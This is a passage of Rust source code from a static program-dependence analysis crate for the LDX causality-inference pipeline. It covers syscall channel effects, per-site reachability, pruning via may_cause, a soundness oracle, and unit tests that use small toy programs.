            // consume its queue, affecting the next read on the same fd.
            let chans = fd_chans(0);
            // Stdio reads always return "" — no channel.
            eff.reads.extend(chans.iter().cloned());
            eff.writes.extend(chans);
        }
        Syscall::Write | Syscall::Send => {
            let mut chans = fd_chans(0);
            if let Some(v) = args.first() {
                if v.may_be_stdio() {
                    let explicit_stderr = v.only_int() == Some(2);
                    if explicit_stderr {
                        chans.insert(Chan::File("/dev/stderr".into()));
                    } else {
                        chans.insert(Chan::File("/dev/stdout".into()));
                        if v.unknown || v.ints.contains(&2) {
                            chans.insert(Chan::File("/dev/stderr".into()));
                        }
                    }
                }
            }
            eff.writes.extend(chans);
        }
        Syscall::Seek | Syscall::Close => {
            // Repositioning / closing changes what later reads observe.
            eff.writes.extend(fd_chans(0));
        }
        Syscall::Stat => {
            eff.reads.extend(path_chans(0));
        }
        Syscall::Readdir => {
            // Directory listings observe creations/deletions anywhere.
            eff.reads.insert(Chan::FsAny);
        }
        Syscall::Mkdir | Syscall::Unlink => {
            eff.writes.extend(path_chans(0));
        }
        Syscall::Rename => {
            eff.writes.extend(path_chans(0));
            eff.writes.extend(path_chans(1));
        }
        Syscall::Accept => {
            // Consumes the next scripted client on the port.
            let port = args.first().cloned().unwrap_or_else(ValSet::unknown);
            let chans: BTreeSet<Chan> = if port.ints.is_empty() || port.unknown {
                BTreeSet::from([Chan::NetAny])
            } else {
                port.ints.iter().copied().map(Chan::Client).collect()
            };
            eff.reads.extend(chans.iter().cloned());
            eff.writes.extend(chans);
        }
        Syscall::Connect => {
            // Peer existence is fixed world configuration — never written
            // at runtime, so connect has no channel effects.
        }
        Syscall::Time => {
            eff.reads.insert(Chan::Clock);
            eff.writes.insert(Chan::Clock);
        }
        Syscall::Random => {
            eff.reads.insert(Chan::Rng);
            eff.writes.insert(Chan::Rng);
        }
        Syscall::Sleep => {
            // Sleep advances the virtual clock by its argument.
            eff.writes.insert(Chan::Clock);
        }
        Syscall::GetPid
        | Syscall::Lock
        | Syscall::Unlock
        | Syscall::Spawn
        | Syscall::Join
        | Syscall::Exit
        | Syscall::Setjmp
        | Syscall::Longjmp => {}
    }
    eff
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::reachdef::{ReachingDefs, TERM_IDX};
    use ldx_ir::lower;
    use ldx_lang::compile;

    fn syscall_args(src: &str, sys: Syscall) -> Vec<ValSet> {
        let p = lower(&compile(src).unwrap());
        let f = p.func(p.main()).clone();
        let rd = ReachingDefs::compute(&f);
        let mut res = Resolver::new(&f, &rd);
        for b in f.block_ids() {
            for (idx, instr) in f.block(b).instrs.iter().enumerate() {
                if let Instr::Syscall { sys: s, args, .. } = instr {
                    if *s == sys {
                        let pos = UsePos { block: b, idx };
                        assert_ne!(pos.idx, TERM_IDX);
                        return args.iter().map(|&a| res.resolve(pos, a)).collect();
                    }
                }
            }
        }
        panic!("no {sys:?} site in program");
    }

    #[test]
    fn open_path_constant_folds_through_copy() {
        let args = syscall_args(
            r#"fn main() { let p = "/data/in"; let q = p; let fd = open(q, 0); read(fd, 8); }"#,
            Syscall::Read,
        );
        assert_eq!(
            args[0].file_fds,
            BTreeSet::from(["/data/in".to_string()]),
            "fd resolves to its open path"
        );
        assert!(!args[0].fd_unknown_file);
        let eff = site_effects(Syscall::Read, &args);
        assert!(eff.reads.contains(&Chan::File("/data/in".into())));
        assert!(!eff.reads.contains(&Chan::FsAny));
    }

    #[test]
    fn branch_merges_open_paths() {
        let args = syscall_args(
            r#"fn main() {
                let fd = 0;
                if (time()) { fd = open("/a", 0); } else { fd = open("/b", 0); }
                read(fd, 8);
            }"#,
            Syscall::Read,
        );
        assert_eq!(
            args[0].file_fds,
            BTreeSet::from(["/a".to_string(), "/b".to_string()])
        );
    }

    #[test]
    fn unknown_fd_widens_to_hubs() {
        let args = syscall_args(
            r#"fn helper() { return open("/x", 0); }
               fn main() { let fd = helper(); read(fd, 8); }"#,
            Syscall::Read,
        );
        assert!(args[0].unknown, "call results are unconstrained");
        let eff = site_effects(Syscall::Read, &args);
        assert!(eff.reads.contains(&Chan::FsAny));
        assert!(eff.reads.contains(&Chan::NetAny));
    }

    #[test]
    fn stdio_write_targets_dev_stdout() {
        let args = syscall_args(r#"fn main() { write(1, "hi"); }"#, Syscall::Write);
        let eff = site_effects(Syscall::Write, &args);
        assert_eq!(
            eff.writes,
            BTreeSet::from([Chan::File("/dev/stdout".into())])
        );
    }

    #[test]
    fn alias_is_pairwise_not_transitive() {
        let a = Chan::File("/a".into());
        let b = Chan::File("/b".into());
        assert!(!may_alias(&a, &b));
        assert!(may_alias(&a, &Chan::FsAny));
        assert!(may_alias(&Chan::FsAny, &b));
        assert!(!may_alias(&a, &Chan::NetAny));
        assert!(may_alias(&Chan::Peer("h".into()), &Chan::NetAny));
        assert!(!may_alias(&Chan::Peer("h".into()), &Chan::Peer("k".into())));
    }
}
