//! Static reachability: which sinks can a source possibly influence?
//!
//! [`StaticAnalysis`] is the crate's main entry point. It builds the
//! whole-program [`Pdg`] once, then runs one forward reachability pass per
//! syscall site. The result answers, entirely statically:
//!
//! - **candidate sites** — which syscall sites a [`SourceMatcher`] can
//!   match at runtime (descriptor matchers use the abstract fd values);
//! - **[`may_cause`]** — can mutating this source possibly produce *any*
//!   causality record under a given sink spec? `false` is a proof of
//!   independence, so the dual execution can be skipped;
//! - **the soundness oracle** — every dynamically reported causal pair
//!   must be inside the static map; a violation means a bug in either the
//!   engine or the analysis.
//!
//! [`may_cause`]: StaticAnalysis::may_cause

use crate::graph::{Node, Pdg, SiteInfo};
use crate::resource::{may_alias, Chan};
use ldx_dualex::{
    CausalityKind, CausalityRecord, DualReport, Mutation, SinkSpec, SourceMatcher, SourceSpec,
};
use ldx_ir::{FuncId, IrProgram, SiteId};
use ldx_lang::Syscall;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// A syscall site, keyed the way causality records are.
pub type SiteRef = (FuncId, SiteId);

/// What one source syscall site can statically influence.
#[derive(Debug, Clone, Default)]
pub struct SiteReach {
    /// Every syscall site whose behavior the source may influence
    /// (including the source itself).
    pub sinks: BTreeSet<SiteRef>,
    /// The source may change the process end state (exit code, or
    /// trapping vs. finishing normally).
    pub affects_end: bool,
    /// The source's value flows anywhere at all beyond the site itself.
    pub touches_anything: bool,
}

/// The full static dependence analysis of one program.
#[derive(Debug)]
pub struct StaticAnalysis {
    pdg: Pdg,
    func_names: BTreeMap<String, FuncId>,
    reach: BTreeMap<SiteRef, SiteReach>,
    /// Union of the reach of every `spawn` site, or `None` for
    /// single-threaded programs. Thread scheduling is a nondeterminism
    /// source the mutation does not control: anything a spawned thread
    /// touches can differ between master and slave runs regardless of the
    /// source, so pruning and the oracle must both treat it as always
    /// live (the paper's §7 caveat about racy programs).
    spawn_reach: Option<SiteReach>,
}

impl StaticAnalysis {
    /// Analyzes `program`: builds the PDG and the per-site reachability
    /// map. Run this on the *instrumented* program so site ids line up
    /// with the ids in causality records.
    pub fn analyze(program: &IrProgram) -> Self {
        let _span = ldx_obs::span(ldx_obs::cat::SDEP, "sdep.analyze");
        let pdg = Pdg::build(program);
        let func_names = program
            .iter_funcs()
            .map(|(fid, f)| (f.name.clone(), fid))
            .collect();
        let mut reach = BTreeMap::new();
        let site_nodes: Vec<(SiteRef, u32)> = pdg
            .sites
            .iter()
            .map(|(&key, info)| (key, info.node))
            .collect();
        for &(key, node) in &site_nodes {
            let seen = pdg.reachable([node]);
            let mut r = SiteReach::default();
            for &(other, other_node) in &site_nodes {
                if seen[other_node as usize] {
                    r.sinks.insert(other);
                }
            }
            for (i, flag) in seen.iter().enumerate() {
                if !flag || i == node as usize {
                    continue;
                }
                if matches!(pdg.nodes()[i], Node::End) {
                    r.affects_end = true;
                }
                r.touches_anything = true;
            }
            reach.insert(key, r);
        }
        let mut spawn_reach: Option<SiteReach> = None;
        for (key, info) in &pdg.sites {
            if info.sys != Syscall::Spawn {
                continue;
            }
            let r = &reach[key];
            let acc = spawn_reach.get_or_insert_with(SiteReach::default);
            acc.sinks.extend(r.sinks.iter().copied());
            acc.affects_end |= r.affects_end;
            acc.touches_anything |= r.touches_anything;
        }
        ldx_obs::counter_add("sdep.nodes", pdg.nodes().len() as u64);
        ldx_obs::counter_add("sdep.edges", pdg.edge_count() as u64);
        ldx_obs::counter_add("sdep.sites", reach.len() as u64);
        StaticAnalysis {
            pdg,
            func_names,
            reach,
            spawn_reach,
        }
    }

    /// The underlying dependence graph.
    pub fn pdg(&self) -> &Pdg {
        &self.pdg
    }

    /// The per-site reachability map.
    pub fn reach(&self) -> &BTreeMap<SiteRef, SiteReach> {
        &self.reach
    }

    /// The syscall-site table.
    pub fn sites(&self) -> &BTreeMap<SiteRef, SiteInfo> {
        &self.pdg.sites
    }

    /// The syscall sites `matcher` can possibly match at runtime.
    pub fn candidate_sites(&self, matcher: &SourceMatcher) -> Vec<SiteRef> {
        let reads_may =
            |info: &SiteInfo, chan: &Chan| info.effects.reads.iter().any(|r| may_alias(r, chan));
        self.pdg
            .sites
            .iter()
            .filter(|(_, info)| match matcher {
                SourceMatcher::FileRead(path) => {
                    info.sys == Syscall::Read && reads_may(info, &Chan::file(path))
                }
                SourceMatcher::NetRecv(host) => {
                    matches!(info.sys, Syscall::Recv | Syscall::Read)
                        && reads_may(info, &Chan::Peer(host.clone()))
                }
                SourceMatcher::ClientRecv(port) => {
                    matches!(info.sys, Syscall::Recv | Syscall::Read)
                        && reads_may(info, &Chan::Client(*port))
                }
                SourceMatcher::SyscallKind(sys) => info.sys == *sys,
                SourceMatcher::Site(fname, site) => {
                    self.func_names.get(fname) == Some(&info.func) && info.site == SiteId(*site)
                }
            })
            .map(|(&key, _)| key)
            .collect()
    }

    /// The syscall sites that can be sinks under `sinks`.
    pub fn sink_sites(&self, sinks: &SinkSpec) -> BTreeSet<SiteRef> {
        self.pdg
            .sites
            .iter()
            .filter(|(_, info)| match sinks {
                SinkSpec::Outputs | SinkSpec::AllWrites => info.sys.is_output(),
                SinkSpec::NetworkOut => info.sys == Syscall::Send,
                SinkSpec::FileOut => {
                    // `write` to fd >= 3: exclude sites whose fd is a known
                    // stdio constant.
                    info.sys == Syscall::Write
                        && !matches!(info.args.first().and_then(|v| v.only_int()), Some(0..=2))
                }
                SinkSpec::Sites(list) => list.iter().any(|(fname, site)| {
                    self.func_names.get(fname) == Some(&info.func) && info.site == SiteId(*site)
                }),
            })
            .map(|(&key, _)| key)
            .collect()
    }

    /// Can mutating `source` possibly produce any causality record under
    /// `sinks`? `false` is a static proof of independence.
    ///
    /// A source with no candidate site can never be mutated, so it is
    /// independent even in a threaded program. With candidates, a
    /// threaded program is never prunable: a scheduling race can surface
    /// at the sinks of any individual run, and that run's records would
    /// be attributed to whatever source it mutated.
    pub fn may_cause(&self, source: &SourceSpec, sinks: &SinkSpec) -> bool {
        let candidates = self.candidate_sites(&source.matcher);
        if candidates.is_empty() {
            return false;
        }
        if self.spawn_reach.is_some() {
            return true;
        }
        let sink_sites = self.sink_sites(sinks);
        let preserving = type_preserving(&source.mutation);
        candidates.iter().any(|c| {
            let Some(r) = self.reach.get(c) else {
                return true;
            };
            if !preserving && r.touches_anything {
                // A type-changing mutation can raise a TypeError anywhere
                // the value is used.
                return true;
            }
            r.affects_end || r.sinks.iter().any(|s| sink_sites.contains(s))
        })
    }

    /// A shortest PDG path from `from` to `to`, rendered as the sequence
    /// of syscall sites it passes through (both endpoints included when
    /// they are sites). `None` when either site is unknown or no path
    /// exists. Deterministic: BFS over the PDG's fixed successor order.
    ///
    /// This is the *static witness* behind a dynamic causal pair: the
    /// dependence edges along which the mutation could have propagated.
    pub fn path_witness(&self, from: SiteRef, to: SiteRef) -> Option<Vec<SiteRef>> {
        let start = self.pdg.sites.get(&from)?.node;
        let goal = self.pdg.sites.get(&to)?.node;
        self.site_path(start, goal)
    }

    /// A shortest PDG path from `from` to the end-state node — the static
    /// witness for an `EndDiff` record (exit code / trap differences).
    pub fn path_to_end(&self, from: SiteRef) -> Option<Vec<SiteRef>> {
        let start = self.pdg.sites.get(&from)?.node;
        let goal = self.pdg.node_id(&Node::End)?;
        self.site_path(start, goal)
    }

    /// BFS with parent tracking from `start` to `goal`, projected onto
    /// syscall sites (consecutive duplicates collapsed).
    fn site_path(&self, start: u32, goal: u32) -> Option<Vec<SiteRef>> {
        let n = self.pdg.nodes().len();
        let mut parent: Vec<Option<u32>> = vec![None; n];
        let mut seen = vec![false; n];
        seen[start as usize] = true;
        let mut found = start == goal;
        let mut queue = std::collections::VecDeque::from([start]);
        'bfs: while let Some(u) = queue.pop_front() {
            if found {
                break;
            }
            for &v in self.pdg.succs(u) {
                if seen[v as usize] {
                    continue;
                }
                seen[v as usize] = true;
                parent[v as usize] = Some(u);
                if v == goal {
                    found = true;
                    break 'bfs;
                }
                queue.push_back(v);
            }
        }
        if !found {
            return None;
        }
        let mut node_path = vec![goal];
        while let Some(p) = parent[*node_path.last().expect("nonempty") as usize] {
            node_path.push(p);
        }
        node_path.reverse();
        let site_of: BTreeMap<u32, SiteRef> = self
            .pdg
            .sites
            .iter()
            .map(|(&key, info)| (info.node, key))
            .collect();
        let mut out: Vec<SiteRef> = Vec::new();
        for nid in node_path {
            if let Some(&s) = site_of.get(&nid) {
                if out.last() != Some(&s) {
                    out.push(s);
                }
            }
        }
        Some(out)
    }

    /// Source specs the program structure itself suggests: one per
    /// statically identified input resource (file paths read, peers
    /// received from, client ports served). Used by the pruning ablation
    /// to probe inputs beyond the ones a workload declares.
    pub fn discovered_sources(&self) -> Vec<SourceSpec> {
        let mut files = BTreeSet::new();
        let mut peers = BTreeSet::new();
        let mut ports = BTreeSet::new();
        for info in self.pdg.sites.values() {
            match info.sys {
                Syscall::Read | Syscall::Recv => {
                    for chan in &info.effects.reads {
                        match chan {
                            Chan::File(p) => {
                                files.insert(p.clone());
                            }
                            Chan::Peer(h) => {
                                peers.insert(h.clone());
                            }
                            Chan::Client(p) => {
                                ports.insert(*p);
                            }
                            _ => {}
                        }
                    }
                }
                _ => {}
            }
        }
        let mut out: Vec<SourceSpec> = Vec::new();
        out.extend(files.into_iter().map(SourceSpec::file));
        out.extend(peers.into_iter().map(SourceSpec::net));
        out.extend(ports.into_iter().map(SourceSpec::client));
        out
    }

    /// The soundness oracle: every causality record in `report` must be
    /// explained by the static map for at least one source in `sources`.
    pub fn check_report(
        &self,
        sources: &[SourceSpec],
        report: &DualReport,
    ) -> Result<(), OracleViolation> {
        for record in &report.causality {
            self.check_record(sources, record)?;
        }
        Ok(())
    }

    fn check_record(
        &self,
        sources: &[SourceSpec],
        record: &CausalityRecord,
    ) -> Result<(), OracleViolation> {
        // In a threaded program, a record at anything a spawned thread
        // reaches may be race-induced rather than source-induced; the
        // oracle cannot attribute it to the mutation.
        if let Some(race) = &self.spawn_reach {
            let race_explained = match record.kind {
                CausalityKind::EndDiff { .. } => race.affects_end,
                _ => race.sinks.contains(&(record.func, record.site)),
            };
            if race_explained {
                return Ok(());
            }
        }
        let explained = sources.iter().any(|source| {
            let candidates = self.candidate_sites(&source.matcher);
            let preserving = type_preserving(&source.mutation);
            candidates.iter().any(|c| {
                let Some(r) = self.reach.get(c) else {
                    return true;
                };
                if !preserving && r.touches_anything {
                    return true;
                }
                match record.kind {
                    CausalityKind::EndDiff { .. } => r.affects_end,
                    _ => r.sinks.contains(&(record.func, record.site)),
                }
            })
        });
        if explained {
            Ok(())
        } else {
            Err(OracleViolation {
                record: record.clone(),
            })
        }
    }
}

/// Whether a mutation can never change a value's runtime type.
pub fn type_preserving(m: &Mutation) -> bool {
    match m {
        Mutation::OffByOne | Mutation::BitFlip | Mutation::Zero | Mutation::Identity => true,
        Mutation::Replace(_) | Mutation::SetInt(_) => false,
    }
}

/// A dynamically reported causal pair missing from the static map — a
/// soundness bug in the analysis or the engine.
#[derive(Debug, Clone)]
pub struct OracleViolation {
    /// The unexplained record.
    pub record: CausalityRecord,
}

impl fmt::Display for OracleViolation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "causality record not in static reachability map: {:?} at {}:{} ({:?})",
            self.record.kind, self.record.func, self.record.site, self.record.sys
        )
    }
}

impl std::error::Error for OracleViolation {}
