//! `ldx-sdep`: static program-dependence analysis for the LDX pipeline.
//!
//! LDX infers causality *dynamically* by dual execution. This crate is its
//! static complement: an interprocedural dependence over-approximation
//! with two jobs —
//!
//! 1. **Pruning.** Any (source, sink) pair the static analysis proves
//!    independent can never produce a causality record, so
//!    `attribute_sources` / `causal_strength` can skip the whole dual
//!    execution for it ([`StaticAnalysis::may_cause`]).
//! 2. **Soundness oracle.** Every causality record the engine *does*
//!    report must fall inside the static map
//!    ([`StaticAnalysis::check_report`]); a violation is a machine-checked
//!    bug in either the engine or this analysis, and CI runs the check
//!    over the whole workload corpus.
//!
//! The pipeline, bottom to top:
//!
//! * [`reachdef`] — flow-sensitive intraprocedural reaching definitions
//!   and def-use chains (weak updates for array element stores);
//! * [`cdep`] — control dependence, Ferrante–Ottenstein–Warren over the
//!   existing post-dominator tree from `ldx-ir`;
//! * [`resource`] — abstract values for fd/path arguments and the vOS
//!   *channels* (files, peers, client queues, clock, RNG) through which
//!   data flows around the program;
//! * [`graph`] — the whole-program PDG: data + control edges, a coarse
//!   context-insensitive call treatment over the existing `CallGraph`
//!   (conservative at indirect calls, `spawn`/`join`, and recursion),
//!   global-variable edges, channel edges, and *end* edges (ways a
//!   perturbed value can change the exit code or trap);
//! * [`reach`] — per-syscall-site forward reachability, source-matcher
//!   candidate sets, [`may_cause`](StaticAnalysis::may_cause), and the
//!   oracle;
//! * [`export`] — JSON (schema-checked in CI) and Graphviz DOT dumps,
//!   surfaced as `ldx analyze`.
//!
//! Precision notes and the soundness argument live in `docs/ANALYSIS.md`.

pub mod cdep;
pub mod export;
pub mod graph;
pub mod reach;
pub mod reachdef;
pub mod resource;

pub use cdep::ControlDeps;
pub use export::{analysis_to_json, pdg_to_dot};
pub use graph::{Node, Pdg, SiteInfo};
pub use reach::{type_preserving, OracleViolation, SiteReach, SiteRef, StaticAnalysis};
pub use reachdef::ReachingDefs;
pub use resource::{may_alias, site_effects, Chan, Resolver, SiteEffects, ValSet};

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_dualex::{SinkSpec, SourceSpec};
    use ldx_ir::lower;
    use ldx_lang::compile;

    fn analyze(src: &str) -> (ldx_ir::IrProgram, StaticAnalysis) {
        let program = lower(&compile(src).unwrap());
        let analysis = StaticAnalysis::analyze(&program);
        (program, analysis)
    }

    const TWO_SOURCE: &str = r#"
        fn main() {
            let a = open("/a", 0);
            let secret = read(a, 32);
            close(a);
            let b = open("/b", 0);
            let dead = read(b, 32);
            close(b);
            write(1, secret);
        }
    "#;

    #[test]
    fn causal_source_reaches_the_sink() {
        let (_, analysis) = analyze(TWO_SOURCE);
        assert!(
            analysis.may_cause(&SourceSpec::file("/a"), &SinkSpec::Outputs),
            "/a flows to write(1, secret)"
        );
    }

    #[test]
    fn dead_read_is_statically_independent() {
        let (_, analysis) = analyze(TWO_SOURCE);
        assert!(
            !analysis.may_cause(&SourceSpec::file("/b"), &SinkSpec::Outputs),
            "/b is read into a dead local and can be pruned"
        );
    }

    #[test]
    fn threaded_programs_are_never_pruned() {
        // The dead read of /b would be prunable in a sequential program
        // (see `dead_read_is_statically_independent`), but a spawned
        // thread makes every run scheduling-dependent: races can surface
        // records at any sink the threads reach, so `may_cause` must stay
        // conservative. Sources with no candidate site are still pruned —
        // they can never be mutated, race or not.
        let (_, analysis) = analyze(
            r#"
            global counter = 0;
            fn bump(x) { counter = counter + 1; }
            fn main() {
                let t = spawn(&bump, 0);
                let b = open("/b", 0);
                let dead = read(b, 32);
                close(b);
                join(t);
                write(1, str(counter));
            }
            "#,
        );
        assert!(
            analysis.may_cause(&SourceSpec::file("/b"), &SinkSpec::Outputs),
            "threads disable pruning for matchable sources"
        );
        assert!(
            !analysis.may_cause(&SourceSpec::file("/nope"), &SinkSpec::Outputs),
            "a source with no candidate site is inert even with threads"
        );
    }

    #[test]
    fn missing_file_has_no_candidate_sites() {
        let (_, analysis) = analyze(TWO_SOURCE);
        assert!(analysis
            .candidate_sites(&ldx_dualex::SourceMatcher::FileRead("/nope".into()))
            .is_empty());
    }

    #[test]
    fn control_dependence_is_causal() {
        let (_, analysis) = analyze(
            r#"
            fn main() {
                let fd = open("/flag", 0);
                let v = int(read(fd, 8));
                if (v > 0) { write(1, "yes"); } else { write(1, "no"); }
            }
        "#,
        );
        assert!(
            analysis.may_cause(&SourceSpec::file("/flag"), &SinkSpec::Outputs),
            "sinks are control-dependent on the source"
        );
    }

    #[test]
    fn interprocedural_flow_through_helper() {
        let (_, analysis) = analyze(
            r#"
            fn emit(x) { write(1, x); return 0; }
            fn main() {
                let fd = open("/in", 0);
                emit(read(fd, 8));
            }
        "#,
        );
        assert!(
            analysis.may_cause(&SourceSpec::file("/in"), &SinkSpec::Outputs),
            "taint flows into the callee's sink"
        );
    }

    #[test]
    fn channel_flow_through_a_file() {
        let (_, analysis) = analyze(
            r#"
            fn main() {
                let i = open("/in", 0);
                let v = read(i, 8);
                close(i);
                let o = open("/tmp/x", 1);
                write(o, v);
                close(o);
                let r = open("/tmp/x", 0);
                let copy = read(r, 8);
                close(r);
                send(connect("upstream"), copy);
            }
        "#,
        );
        assert!(
            analysis.may_cause(&SourceSpec::file("/in"), &SinkSpec::NetworkOut),
            "taint flows through /tmp/x to the send"
        );
        // The relay file itself is also a source candidate.
        assert!(analysis.may_cause(&SourceSpec::file("/tmp/x"), &SinkSpec::NetworkOut));
    }

    #[test]
    fn write_only_output_file_is_not_a_read_candidate() {
        let (_, analysis) = analyze(
            r#"
            fn main() {
                let i = open("/in", 0);
                let v = read(i, 8);
                let o = open("/out", 1);
                write(o, v);
            }
        "#,
        );
        assert!(
            !analysis.may_cause(&SourceSpec::file("/out"), &SinkSpec::Outputs),
            "nothing reads /out, so it cannot be a source"
        );
        let discovered = analysis.discovered_sources();
        assert!(
            discovered.contains(&SourceSpec::file("/in")),
            "discovered: {discovered:?}"
        );
        assert!(!discovered.contains(&SourceSpec::file("/out")));
    }

    #[test]
    fn exit_code_dependence_sets_affects_end() {
        let (_, analysis) = analyze(
            r#"
            fn main() {
                let fd = open("/in", 0);
                let v = int(read(fd, 8));
                exit(v);
            }
        "#,
        );
        let sites = analysis.candidate_sites(&ldx_dualex::SourceMatcher::FileRead("/in".into()));
        assert_eq!(sites.len(), 1);
        let reach = &analysis.reach()[&sites[0]];
        assert!(reach.affects_end, "source feeds exit()");
        assert!(
            analysis.may_cause(&SourceSpec::file("/in"), &SinkSpec::NetworkOut),
            "EndDiff is observable under any sink spec"
        );
    }

    #[test]
    fn division_by_tainted_value_affects_end() {
        let (_, analysis) = analyze(
            r#"
            fn main() {
                let fd = open("/in", 0);
                let v = int(read(fd, 8));
                let q = 100 / v;
            }
        "#,
        );
        let sites = analysis.candidate_sites(&ldx_dualex::SourceMatcher::FileRead("/in".into()));
        let reach = &analysis.reach()[&sites[0]];
        assert!(reach.affects_end, "a zeroed divisor traps");
    }

    #[test]
    fn unrelated_straightline_source_is_independent() {
        let (_, analysis) = analyze(
            r#"
            fn main() {
                let fd = open("/cfg", 0);
                let v = read(fd, 8);
                close(fd);
                write(1, "constant");
            }
        "#,
        );
        assert!(
            !analysis.may_cause(&SourceSpec::file("/cfg"), &SinkSpec::Outputs),
            "v is dead, the write is constant and not control-dependent"
        );
    }

    #[test]
    fn loop_bound_from_source_affects_end() {
        let (_, analysis) = analyze(
            r#"
            fn main() {
                let fd = open("/n", 0);
                let n = int(read(fd, 8));
                let i = 0;
                while (i < n) { i = i + 1; }
            }
        "#,
        );
        let sites = analysis.candidate_sites(&ldx_dualex::SourceMatcher::FileRead("/n".into()));
        let reach = &analysis.reach()[&sites[0]];
        assert!(
            reach.affects_end,
            "a perturbed loop bound can cross the step limit"
        );
    }

    #[test]
    fn indirect_call_is_conservative() {
        let (_, analysis) = analyze(
            r#"
            fn quiet(x) { return x + 1; }
            fn loud(x) { write(1, str(x)); return 0; }
            fn main() {
                let fd = open("/sel", 0);
                let v = int(read(fd, 8));
                let table = [&quiet, &loud];
                let h = table[v % 2];
                h(v);
            }
        "#,
        );
        assert!(
            analysis.may_cause(&SourceSpec::file("/sel"), &SinkSpec::Outputs),
            "indirect call may target the function containing the sink"
        );
    }

    #[test]
    fn type_changing_mutation_widens_to_any_use() {
        use ldx_dualex::Mutation;
        let (_, analysis) = analyze(
            r#"
            fn main() {
                let fd = open("/in", 0);
                let v = read(fd, 8);
                let w = v + "!";
            }
        "#,
        );
        // Type-preserving mutation: no sink, no end effect... but the
        // concatenation itself cannot trap, so Outputs finds nothing.
        assert!(!analysis.may_cause(&SourceSpec::file("/in"), &SinkSpec::Outputs));
        // A Replace mutation can change the type and trap anywhere the
        // value is used.
        assert!(analysis.may_cause(
            &SourceSpec::file("/in").with_mutation(Mutation::Replace("zzz".into())),
            &SinkSpec::Outputs
        ));
    }

    #[test]
    fn global_flow_crosses_functions() {
        let (_, analysis) = analyze(
            r#"
            global acc = 0;
            fn produce() {
                let fd = open("/in", 0);
                acc = int(read(fd, 8));
                return 0;
            }
            fn consume() { write(1, str(acc)); return 0; }
            fn main() { produce(); consume(); }
        "#,
        );
        assert!(
            analysis.may_cause(&SourceSpec::file("/in"), &SinkSpec::Outputs),
            "taint flows through the global"
        );
    }

    #[test]
    fn instrumented_program_keeps_the_same_verdicts() {
        // Pruning runs on the instrumented program (site ids must line up
        // with causality records), so the analysis has to digest the
        // counter instructions too.
        let program = lower(&compile(TWO_SOURCE).unwrap());
        let instrumented = ldx_instrument::instrument(&program);
        let analysis = StaticAnalysis::analyze(instrumented.program());
        assert!(analysis.may_cause(&SourceSpec::file("/a"), &SinkSpec::Outputs));
        assert!(!analysis.may_cause(&SourceSpec::file("/b"), &SinkSpec::Outputs));
    }

    #[test]
    fn path_witness_connects_source_to_sink() {
        let (_, analysis) = analyze(TWO_SOURCE);
        let sources = analysis.candidate_sites(&ldx_dualex::SourceMatcher::FileRead("/a".into()));
        assert_eq!(sources.len(), 1);
        let sinks = analysis.sink_sites(&SinkSpec::Outputs);
        let sink = *sinks.iter().next().expect("one write sink");
        let path = analysis
            .path_witness(sources[0], sink)
            .expect("a static path exists");
        assert_eq!(path.first(), Some(&sources[0]), "path starts at the source");
        assert_eq!(path.last(), Some(&sink), "path ends at the sink");
        // Independent pair: the dead /b read reaches no sink.
        let dead = analysis.candidate_sites(&ldx_dualex::SourceMatcher::FileRead("/b".into()));
        assert!(analysis.path_witness(dead[0], sink).is_none());
    }

    #[test]
    fn path_witness_is_deterministic() {
        let (_, a1) = analyze(TWO_SOURCE);
        let (_, a2) = analyze(TWO_SOURCE);
        let src = a1.candidate_sites(&ldx_dualex::SourceMatcher::FileRead("/a".into()))[0];
        let sink = *a1.sink_sites(&SinkSpec::Outputs).iter().next().unwrap();
        assert_eq!(a1.path_witness(src, sink), a2.path_witness(src, sink));
    }

    #[test]
    fn path_to_end_witnesses_exit_dependence() {
        let (_, analysis) = analyze(
            r#"
            fn main() {
                let fd = open("/in", 0);
                let v = int(read(fd, 8));
                exit(v);
            }
        "#,
        );
        let src = analysis.candidate_sites(&ldx_dualex::SourceMatcher::FileRead("/in".into()))[0];
        let path = analysis.path_to_end(src).expect("source affects the end");
        assert_eq!(path.first(), Some(&src));
    }

    #[test]
    fn oracle_rejects_fabricated_record() {
        use ldx_dualex::{CausalityKind, CausalityRecord};
        use ldx_runtime::{ProgressKey, ThreadKey};
        let (_, analysis) = analyze(TWO_SOURCE);
        // A record claiming /b caused the write must be flagged.
        let record = CausalityRecord {
            kind: CausalityKind::MasterOnlySink,
            thread: ThreadKey::root(),
            key: ProgressKey::start(),
            func: ldx_ir::FuncId(0),
            site: ldx_ir::SiteId(999),
            sys: ldx_lang::Syscall::Write,
        };
        let report = ldx_dualex::DualReport {
            causality: vec![record],
            master: Err(ldx_runtime::Trap::DivisionByZero),
            slave: Err(ldx_runtime::Trap::DivisionByZero),
            syscall_diffs: 0,
            shared: 0,
            decoupled: 0,
            master_sinks: 0,
            trace: vec![],
            flight: ldx_dualex::FlightLog::default(),
        };
        assert!(analysis
            .check_report(&[SourceSpec::file("/b")], &report)
            .is_err());
        // The empty report always passes.
        let empty = ldx_dualex::DualReport {
            causality: vec![],
            ..report
        };
        assert!(analysis
            .check_report(&[SourceSpec::file("/b")], &empty)
            .is_ok());
    }
}
