//! Basic CFG utilities: predecessor maps and block orderings.

use crate::program::{BlockId, FuncBody};

/// Computes the predecessor list of every block.
pub fn predecessors(func: &FuncBody) -> Vec<Vec<BlockId>> {
    let mut preds = vec![Vec::new(); func.blocks.len()];
    for b in func.block_ids() {
        for s in func.block(b).term.successors() {
            preds[s.index()].push(b);
        }
    }
    preds
}

/// Reverse postorder of the blocks reachable from the entry.
///
/// This is the canonical iteration order for forward dataflow (dominators).
pub fn reverse_postorder(func: &FuncBody) -> Vec<BlockId> {
    let n = func.blocks.len();
    let mut visited = vec![false; n];
    let mut post = Vec::with_capacity(n);
    // Iterative DFS carrying an explicit successor index.
    let mut stack: Vec<(BlockId, usize)> = vec![(func.entry, 0)];
    visited[func.entry.index()] = true;
    while let Some((b, i)) = stack.pop() {
        let succs = func.block(b).term.successors();
        if i < succs.len() {
            stack.push((b, i + 1));
            let s = succs[i];
            if !visited[s.index()] {
                visited[s.index()] = true;
                stack.push((s, 0));
            }
        } else {
            post.push(b);
        }
    }
    post.reverse();
    post
}

/// Topologically sorts a directed graph given as an explicit edge list over
/// `n` nodes. Returns `None` if the graph contains a cycle.
///
/// The instrumentation pass uses this on the *acyclic* CFG obtained by
